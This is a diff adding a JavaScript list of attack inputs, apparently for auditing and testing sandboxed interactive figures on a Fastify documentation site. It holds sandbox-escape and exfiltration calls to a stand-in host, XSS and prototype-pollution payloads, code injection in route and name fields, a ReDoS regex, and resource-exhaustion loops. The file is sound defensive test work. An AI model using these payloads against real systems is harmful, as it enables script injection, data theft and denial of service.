@@ -1,0 +1,109 @@
+/**
+ * @typedef {object} Attack
+ * @property {string} name what is tried
+ * @property {string} figure of ./figures.js
+ * @property {import('./figures.js').Inputs} [type] into its fields; `CANARY` stands for the address of another host
+ * @property {string} [address] what is appended to that of the page
+ * @property {unknown[]} [forge] messages that the page and the sandbox are sent, each a thousand times
+ * @property {RegExp} [line] what the figure has to say; without it, it says nothing of a fault
+ * @property {boolean} [always] part of the tests, where the others are of the audit alone
+ */
+
+/**
+ * A value that the serialization figure runs.
+ *
+ * @param {string} name
+ * @param {string} code
+ * @param {RegExp} [line]
+ * @returns {Attack}
+ */
+const run = (name, code, line) => ({ name, figure: 'serialization', type: [['Value', code]], line })
+
+/** @param {Attack} attack @returns {Attack} */
+const always = (attack) => ({ ...attack, always: true })
+
+/** @type {Attack[]} */
+const CODE = [
+  always(run('fetches', "fetch('CANARY')", /fetch is not defined/)),
+  run('opens a socket', "new WebSocket('CANARY'.replace('http', 'ws'))", /WebSocket is not defined/),
+  run('listens to events', "new EventSource('CANARY')", /EventSource is not defined/),
+  run('asks in the old way', "new XMLHttpRequest().open('GET', 'CANARY')", /XMLHttpRequest is not defined/),
+  run('imports a script', "importScripts('CANARY')", /importScripts is not defined/),
+  run('imports a module', "import('CANARY')"),
+  run('sends a beacon', "navigator.sendBeacon('CANARY')", /navigator is not defined/),
+  run('loads an image', "new Image().src = 'CANARY'", /Image is not defined/),
+  run('starts a worker of its own', "new Worker(URL.createObjectURL(new Blob(['fetch(\"CANARY\")'])))", /Worker is not defined/),
+  run('reaches for the page', 'parent.document.title', /parent is not defined/),
+  run('reaches for the top', 'top.location = "CANARY"', /top is not defined/),
+  run('reaches for who opened it', 'opener.location', /opener is not defined/),
+  run('reads the storage', 'localStorage.length', /localStorage is not defined/),
+  run('reads cookies', 'document.cookie', /document is not defined/),
+  run('opens a database', "indexedDB.open('x')", /indexedDB is not defined/),
+  run('talks to other pages', "new BroadcastChannel('x').postMessage(1)", /BroadcastChannel is not defined/),
+  always(run('closes the sandbox', '(close(), 1)', /close is not defined/)),
+  run('ends the worker', 'self.terminate()', /terminate is not a function/),
+  run('loops for ever', '(() => { for (;;); })()', /stopped after 2 seconds/),
+  run('loops in a getter', '({ get a () { for (;;); } })', /stopped after 2 seconds/),
+  run('loops between the tasks', '(() => { const again = () => Promise.resolve().then(again); again(); return 1 })()'),
+  run('loops in timers', '(() => { const again = () => { setTimeout(again); setTimeout(again) }; again(); return 1 })()'),
+  run('asks for more memory than there is', 'new ArrayBuffer(2 ** 45)', /Invalid array buffer length|Array buffer allocation failed/),
+  run('asks for a long list', 'new Array(3e6).fill(0)', /longer than 1000000 characters|stopped after 2 seconds/),
+  run('writes a huge text', "'x'.repeat(2e7)", /longer than 1000000 characters|stopped after 2 seconds/),
+  always(run('says that it is ready', '(postMessage({ ready: true }), 1)', /postMessage is not defined/)),
+  run('answers in its place', "(postMessage({ id: 1, text: '{}' }), 1)", /postMessage is not defined/),
+  always(run('floods whoever listens', '(() => { for (;;) postMessage({ ready: true }) })()', /postMessage is not defined/)),
+  run('floods with errors', '(() => { for (let i = 0; i < 1e4; i++) setTimeout(() => { throw new Error(i) }); return 1 })()'),
+  always(run('pollutes what all objects inherit', '(Object.prototype.polluted = 1, {})', /changes Object\.prototype/)),
+  run('makes each object a promise', '(Object.prototype.then = (resolve) => resolve({}), 1)', /changes Object\.prototype/),
+  always(run('forges the result', '(JSON.stringify = () => ({ a: 1 }), 1)', /changes JSON/)),
+  run('replaces how lists are read', 'Object.assign(Array.prototype, { map: () => [1], [Symbol.iterator]: () => { throw 1 } })', /changes Array\.prototype/),
+  run('waits at the port', '(MessagePort.prototype.postMessage = function () { for (;;) this.dispatchEvent(new Event(\'message\')) }, 1)'),
+  run('waits for the next message', "(Object.defineProperty(MessageEvent.prototype, 'data', { get () { this.target.postMessage({ id: 1, text: '1' }) } }), 1)"),
+  run('calls in the place of functions', '(Function.prototype.call = Function.prototype.apply = Reflect.apply = () => 1, 1)', /changes (?:Function\.prototype|Reflect)/),
+  always(run('walks up to who called it', "({ toJSON: new Function('let f = arguments.callee; while (f.caller) f = f.caller; f.arguments[0].target.postMessage({ id: 1, text: 0 })') })")),
+  run('throws when it is looked at', 'new Proxy({}, { get () { throw new Error("no look") }, ownKeys () { throw new Error("no keys") } })', /cannot be compared: no/),
+  always(run('throws what has no text', '(() => { throw Object.create(null) })()', /something that has no text/)),
+  always(run('nests without an end', `${'['.repeat(1900)}${']'.repeat(1900)}`, /nested (?:deeper than 100 levels|too deep)/)),
+  run('nests beyond the stack', '(() => { let v = 1; for (let i = 0; i < 1e5; i++) v = [v]; return v })()', /nested deeper than 100 levels/),
+  run('pastes a million characters', 'x'.repeat(1e6), /longer than 4000 characters/),
+  { name: 'makes code of a schema', figure: 'serialization', type: [['Schema', '{ type: "object", properties: { "\\"]; for (;;); //": { type: "string" } } }'], ['Value', '1']] }
+]
+
+/** @type {Attack[]} */
+const TEXTS = [
+  { name: 'a regular expression that does not end', figure: 'routing', type: [['Routes', '/a/:x(^(a|a|a|a)*$)'], ['GET', `/a/${'a'.repeat(40)}b`]], line: /stopped after 2 seconds/ },
+  { name: 'code in a route', figure: 'routing', type: [['Routes', "/:a'];for(;;);//"], ['GET', '/x']] },
+  { name: 'a route that is everywhere', figure: 'routing', type: [['Routes', '/x\n'.repeat(1e5)]], line: /at most 40 routes/ },
+  { name: 'a URL of a million characters', figure: 'routing', type: [['GET', `/${'a'.repeat(1e6)}`]], line: /longer than 200 characters/ },
+  always({ name: 'ten million characters to log', figure: 'logging', type: [['The object', `{"a":"${'a'.repeat(1e7)}"}`]], line: /the object takes at most 2000 characters/ }),
+  { name: 'a message of a million characters', figure: 'logging', type: [['The message', 'a'.repeat(1e6)]], line: /the message takes at most 2000 characters/ },
+  { name: 'a prototype in what is logged', figure: 'logging', type: [['The object', '{ "__proto__": { "level": 1 }, "constructor": 1 }']] },
+  { name: 'code in a path to redact', figure: 'logging', type: [['redact', "a'];for(;;);//"]], line: /redact takes paths/ },
+  always({ name: 'arguments as a name', figure: 'encapsulation', type: [['Name', 'arguments']], line: /A plugin cannot be called arguments/ }),
+  { name: 'a prototype as a name', figure: 'encapsulation', type: [['Name', '__proto__']], line: /A name is/ },
+  { name: 'code as a prefix', figure: 'encapsulation', type: [['Prefix', "/');process.exit()//"]], line: /The prefix of/ },
+  always({ name: 'arguments as a name', figure: 'plugins', type: [['Name', 'arguments']], line: /A plugin cannot be called arguments/ }),
+  { name: 'constructor as a name', figure: 'plugins', type: [['Name', 'constructor']] },
+  always({ name: 'sixty thousand characters', figure: 'search', type: [['Search the pages', 'fastify router '.repeat(4000)]], line: /The search takes 8 words and 100 characters/ }),
+  always({ name: 'a million characters', figure: 'search', type: [['Search the pages', 'x'.repeat(1e6)]], line: /The search takes 8 words and 100 characters/ }),
+  { name: 'nothing but signs', figure: 'search', type: [['Search the pages', '.*+?^${}()|[]\\<img src=CANARY onerror=alert(1)>']], line: /No results|results?\./ }
+]
+
+const FORGED = [{ ready: true }, { id: 1, text: '{}' }, { id: 2, error: 'forged' }, 'open', null]
+
+/** @type {Attack[]} */
+const MESSAGES = ['serialization', 'hooks', 'lifecycle', 'plugins'].map((figure) => ({ name: 'messages from elsewhere', figure, forge: FORGED }))
+
+/** @type {Attack[]} */
+const ADDRESSES = [
+  { name: 'a hash that is no name', figure: 'serialization', address: '#%' },
+  { name: 'code in the hash', figure: 'serialization', address: '#schema={}&value=fetch("CANARY")' },
+  { name: 'code in the query', figure: 'closures', address: '?variant=%3Cimg%20src%3DCANARY%20onerror%3Dalert(1)%3E&__proto__=1' },
+  { name: 'a kind of all objects', figure: 'misconceptions', address: '?kind=__proto__#constructor' },
+  { name: 'filters of all objects', figure: 'claims', address: '?mechanism=toString&verdict=__proto__&node=constructor#%E0%A4%A' },
+  { name: 'a place in no graph', figure: 'flamegraphs', address: `?view=flame&find=${'('.repeat(2000)}&zoom=__proto__:0.0,constructor:99999999.1` },
+  { name: 'sums of nothing', figure: 'should-you-move', address: '?from=__proto__&node=1e999&handler=%00&schema[]=1' }
+]
+
+/** What the figures have to stand. */
+export const ATTACKS = [...CODE, ...TEXTS, ...MESSAGES, ...ADDRESSES]
